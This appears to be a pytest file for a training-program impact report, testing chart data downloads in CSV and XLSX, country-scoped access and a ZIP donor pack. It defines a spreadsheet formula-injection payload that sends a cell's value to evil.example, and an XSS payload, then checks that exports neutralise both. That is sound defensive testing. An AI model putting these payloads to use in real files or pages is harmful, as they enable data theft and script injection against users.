"""Each chart's data downloaded from the report's page, and the donor pack the worker makes: on the demo program,
within the viewer's country scope, with hostile item texts kept literal."""
import csv
import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from assessments.impact.chart_images import images_available
from assessments.models import Question, Questionnaire
from extensions import db
from tests.conftest import login, post_form
from tests.helpers import DEMO, demo_pairs, demo_submitted, load_demo
from training.models import Delegation, Participant, Program
from training.models_jobs import Job

ORGANIZER, FOCAL_MX = "organizadora@capacita.example", "punto.focal.mx@capacita.example"
PASSWORD = "capacita-demo"
MAKING = "assessments.impact.tasks.make_impact_file"
PNG = b"\x89PNG\r\n\x1a\n"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"pulse aquí")'
SCRIPT = "<img src=x onerror=alert(1)></script>"


def csv_rows(data, delimiter=";"):
    """A CSV download's rows: the test programs are Spanish-first, so split by ";" unless asked otherwise."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def chart_names(page):
    """The charts the page draws, in its order."""
    return re.findall(r'data-figure="chart-([\w-]+)"', page)


def registered(app, country=None):
    with app.app_context():
        query = (select(func.count(Participant.id)).join(Delegation).join(Program, Program.id == Participant.program_id)
                 .where(Program.code == DEMO, Participant.status != "withdrawn"))
        if country:
            query = query.where(Delegation.country_code == country)
        return db.session.scalar(query)


def hostile_item(app, program_id):
    """The first knowledge item's text becomes a formula and markup, in both tests."""
    with app.app_context():
        for question in db.session.scalars(select(Question).join(Questionnaire).where(
                Questionnaire.program_id == program_id, Question.item_key == "K01")):
            question.text = {"es": FORMULA + SCRIPT, "en": FORMULA + SCRIPT}
        db.session.commit()


def test_each_chart_s_data_downloads_with_the_values_it_plots(app, client):
    program_id = load_demo(app)
    login(client, ORGANIZER, PASSWORD)
    page = client.get(f"/programs/{program_id}/impact").get_data(as_text=True)
    names = chart_names(page)
    assert {"funnel", "slopes", "distributions", "forest", "items", "likert-0"} <= set(names)
    for name in names:  # next to each chart, its data in both formats, the CSV with either separator
        for link in (f"{name}.csv?sep=semicolon", f"{name}.csv?sep=comma", f"{name}.xlsx"):
            assert f'href="/programs/{program_id}/impact/data/{link}"' in page
            response = client.get(f"/programs/{program_id}/impact/data/{link}")
            assert response.status_code == 200, name
    commas = client.get(f"/programs/{program_id}/impact/data/funnel.csv?sep=comma").get_data()
    assert csv_rows(commas, ",")[0] == ["Etapa", "Participantes", "Porcentaje de las personas inscritas (%)"]
    funnel = client.get(f"/programs/{program_id}/impact/data/funnel.csv")
    assert funnel.headers["Content-Disposition"] == "attachment; filename=CRM-CE-2021-funnel.csv"
    rows = csv_rows(funnel.get_data())
    assert rows[0] == ["Etapa", "Participantes", "Porcentaje de las personas inscritas (%)"]
    with app.app_context():
        pre, post = demo_submitted("pre"), demo_submitted("post")
    assert [int(row[1]) for row in rows[1:]] == [registered(app), len(pre), len(post), len(pre & post)]
    assert rows[1][2] == "100,0"  # split by ";" as Spanish Excel reads it: a decimal comma
    # The XLSX keeps numbers as numbers; the slopes' rows are the paired sample, then the means.
    sheet = load_workbook(io.BytesIO(client.get(f"/programs/{program_id}/impact/data/slopes.xlsx").get_data())).active
    assert sheet.max_row == 1 + demo_pairs(app) + 1 and sheet["A2"].value == "Participante 1"
    assert sheet["B2"].data_type == "n" and sheet["D2"].value == sheet["C2"].value - sheet["B2"].value
    likert = csv_rows(client.get(f"/programs/{program_id}/impact/data/likert-0.csv").get_data())
    assert likert[0][:2] == ["Pregunta", "Respuestas"] and len(likert) > 1
    counts = [int(cell) for cell in likert[1][2:2 + (len(likert[0]) - 2) // 2] if cell]
    assert sum(counts) == int(likert[1][1])  # every answer in one of the points
    with client.session_transaction() as session:
        session["language"] = "en"
    english = client.get(f"/programs/{program_id}/impact/data/forest.csv")
    assert csv_rows(english.get_data())[0][:3] == ["Country", "Pairs", "Mean change"]
    for name in ("pie", "likert-99", "funnel.csv"):  # charts the report does not have
        assert client.get(f"/programs/{program_id}/impact/data/{name}.csv").status_code == 404


def test_a_focal_point_s_chart_data_covers_their_country_only(app, client):
    program_id = load_demo(app)
    login(client, FOCAL_MX, PASSWORD)
    forest = csv_rows(client.get(f"/programs/{program_id}/impact/data/forest.csv",
                                 query_string={"country": "GT"}).get_data())  # another country's filter is dropped
    assert [row[0] for row in forest[1:]] == ["México", "México, en total"]  # the population it covers
    assert int(forest[1][1]) == int(forest[2][1]) == demo_pairs(app, "MX")
    funnel = csv_rows(client.get(f"/programs/{program_id}/impact/data/funnel.csv").get_data())
    assert int(funnel[1][1]) == registered(app, "MX") < registered(app)
    slopes = csv_rows(client.get(f"/programs/{program_id}/impact/data/slopes.csv").get_data())
    assert len(slopes) == 1 + demo_pairs(app, "MX") + 1


def test_hostile_item_text_stays_literal_in_the_chart_data(app, client):
    program_id = load_demo(app)
    hostile_item(app, program_id)
    login(client, ORGANIZER, PASSWORD)
    rows = csv_rows(client.get(f"/programs/{program_id}/impact/data/items.csv").get_data())
    assert rows[1][:2] == ["K01", "'" + FORMULA + SCRIPT]  # the apostrophe keeps a spreadsheet from evaluating it
    sheet = load_workbook(io.BytesIO(client.get(f"/programs/{program_id}/impact/data/items.xlsx").get_data())).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == (FORMULA + SCRIPT, "s")


# --- the donor pack -------------------------------------------------------------------------------------------------

class Links(HTMLParser):
    """Every src and href of an HTML document's elements (script contents are not elements)."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, value or "") for name, value in attrs if name in ("src", "href")]


def ask_for_the_pack(client, program_id, **filters):
    page = f"/programs/{program_id}/impact"
    query = "&".join(f"{name}={value}" for name, value in filters.items())
    return post_form(client, f"{page}/pack.zip/make" + (f"?{query}" if query else ""), {}, page=page)


def download_the_pack(client, program_id, **filters):
    """The pack the worker made, from the link the page now shows: (the page, download name, ZipFile)."""
    page = client.get(f"/programs/{program_id}/impact", query_string=filters).get_data(as_text=True)
    link = re.search(rf'href="(/programs/{program_id}/impact/files/pack-[0-9a-f-]+\.zip)"', page)
    assert link, "the page links the pack"
    response = client.get(link.group(1))
    assert response.status_code == 200 and response.mimetype == "application/zip"
    name = re.fullmatch(r"attachment; filename=(.+)", response.headers["Content-Disposition"]).group(1)
    return page, name, zipfile.ZipFile(io.BytesIO(response.get_data()))


@pytest.fixture
def quick_drawing(monkeypatch):
    """Charts 'drawn' at once (the pack's assembly is tested here; the drawing where a server can draw); returns
    what the PDF asked to draw besides."""
    from PIL import Image

    png = io.BytesIO()
    Image.new("RGB", (20, 10), "white").save(png, "PNG")
    fake = {"png": png.getvalue(), "svg": b"<svg xmlns='http://www.w3.org/2000/svg'></svg>"}
    monkeypatch.setattr("assessments.impact.tasks.images",
                        lambda figures, formats: {form: {name: fake[form] for name in figures} for form in formats})
    drawn_for_the_pdf = []
    monkeypatch.setattr("assessments.impact.tasks.png_images", lambda figures: drawn_for_the_pdf.append(figures) or {})
    monkeypatch.setattr("assessments.impact.tasks.summary_charts", lambda *args: {})
    return drawn_for_the_pdf


def test_the_donor_pack_holds_every_file_named_for_the_program_and_date(app, client, run_tasks, quick_drawing):
    program_id = load_demo(app)
    login(client, ORGANIZER, PASSWORD)
    page = client.get(f"/programs/{program_id}/impact", query_string={"country": "MX"}).get_data(as_text=True)
    assert "Descargar el paquete para donantes (ZIP)" in page
    assert f'action="/programs/{program_id}/impact/pack.zip/make?country=MX"' in page
    charts = chart_names(page)
    asked = ask_for_the_pack(client, program_id, country="MX")
    assert asked.headers["Location"].endswith("/impact?country=MX#files")
    following = client.get(asked.headers["Location"]).get_data(as_text=True)
    assert re.search(rf'data-job-url="/programs/{program_id}/jobs/\d+" data-job-active="yes"', following)
    with app.app_context():  # five steps: figures, charts, PDF, web page, tables
        assert db.session.scalar(select(Job.total).where(Job.kind == MAKING)) == 5
    assert run_tasks() == 1

    page, name, pack = download_the_pack(client, program_id, country="MX")
    match = re.fullmatch(r"(CRM-CE-2021-impact-\d{4}-\d{2}-\d{2})\.zip", name)
    assert match, name
    stem = match.group(1)
    expected = {f"{stem}.pdf", f"{stem}-summary.png", f"{stem}.html", f"{stem}.xlsx", "README.txt",
                *(f"{stem}-{chart}.{ext}" for chart in charts for ext in ("png", "svg", "csv"))}
    assert set(pack.namelist()) == expected
    assert pack.read(f"{stem}.pdf").startswith(b"%PDF") and pack.read(f"{stem}-summary.png").startswith(PNG)
    assert quick_drawing == [{}]  # the PDF's charts are the pack's, not drawn twice
    assert pack.read(f"{stem}-slopes.png").startswith(PNG)
    assert load_workbook(io.BytesIO(pack.read(f"{stem}.xlsx"))).sheetnames[0] == "Resumen"
    html = pack.read(f"{stem}.html").decode("utf-8")
    assert "País: México" in html and f"Entre las {demo_pairs(app, 'MX')} personas participantes" in html
    links = Links()
    links.feed(html)
    outside = [(tag, value) for tag, value in links.found if not value.startswith(("data:", "#"))]
    assert outside == [] and any(value.startswith("data:text/csv") for _tag, value in links.found)
    # The chart tables are those the page hands out for the same filter.
    assert pack.read(f"{stem}-funnel.csv") == client.get(f"/programs/{program_id}/impact/data/funnel.csv",
                                                         query_string={"country": "MX"}).get_data()
    readme = pack.read("README.txt").decode("utf-8")
    assert "Contenido:" in readme and f"{stem}.html" in readme and "no puede dibujar" not in readme
    # The PDF and the slide made for the pack are the page's too: linked at once, no new job.
    assert re.search(rf'href="/programs/{program_id}/impact/files/summary-[0-9a-f-]+\.pdf"', page)
    assert re.search(rf'href="/programs/{program_id}/impact/files/slide-[0-9a-f-]+\.png"', page)
    assert run_tasks() == 0


def test_without_chart_images_the_pack_is_made_and_says_so_within_the_focal_points_country(app, client, run_tasks,
                                                                                             monkeypatch):
    program_id = load_demo(app)
    hostile_item(app, program_id)
    monkeypatch.setattr("assessments.impact.chart_images.images_available", lambda: False)
    monkeypatch.setattr("assessments.impact.views.images_available", lambda: False)
    login(client, FOCAL_MX, PASSWORD)
    page = client.get(f"/programs/{program_id}/impact").get_data(as_text=True)
    assert "/impact/pack.zip/make" in page and "/impact/charts.zip/make" not in page
    asked = ask_for_the_pack(client, program_id, country="GT")  # outside their country: dropped
    assert asked.status_code == 302 and run_tasks() == 1
    _page, name, pack = download_the_pack(client, program_id)
    names = pack.namelist()
    stem = name.removesuffix(".zip")
    # No chart image; the summary's slide is drawn without Chromium, its findings without their charts.
    assert [name for name in names if name.endswith((".png", ".svg"))] == [f"{stem}-summary.png"]
    readme = pack.read("README.txt").decode("utf-8")
    assert "no puede dibujar imágenes de gráficos" in readme and "<gráfico>.png" not in readme
    forest = csv_rows(pack.read(next(name for name in names if name.endswith("-forest.csv"))))
    assert [row[0] for row in forest[1:]] == ["México", "México, en total"]  # the population it covers
    assert int(forest[1][1]) == demo_pairs(app, "MX")
    items = csv_rows(pack.read(next(name for name in names if name.endswith("-items.csv"))))
    assert items[1][1] == "'" + FORMULA + SCRIPT
    html = pack.read(next(name for name in names if name.endswith(".html"))).decode("utf-8")
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;&lt;/script&gt;" in html
    assert f"Entre las {demo_pairs(app, 'MX')} personas participantes" in html


@pytest.mark.skipif(not images_available(), reason="kaleido or Chromium missing: chart files cannot be drawn here")
def test_the_pack_carries_every_chart_drawn_as_png_and_svg(app, client, run_tasks):
    program_id = load_demo(app)
    login(client, ORGANIZER, PASSWORD)
    charts = chart_names(client.get(f"/programs/{program_id}/impact").get_data(as_text=True))
    ask_for_the_pack(client, program_id)
    assert run_tasks() == 1
    _page, _name, pack = download_the_pack(client, program_id)
    for chart in charts:
        (png,) = [name for name in pack.namelist() if name.endswith(f"-{chart}.png")]
        (svg,) = [name for name in pack.namelist() if name.endswith(f"-{chart}.svg")]
        assert pack.read(png).startswith(PNG) and pack.read(svg).lstrip().startswith(b"<svg")
    assert "no puede dibujar" not in pack.read("README.txt").decode("utf-8")
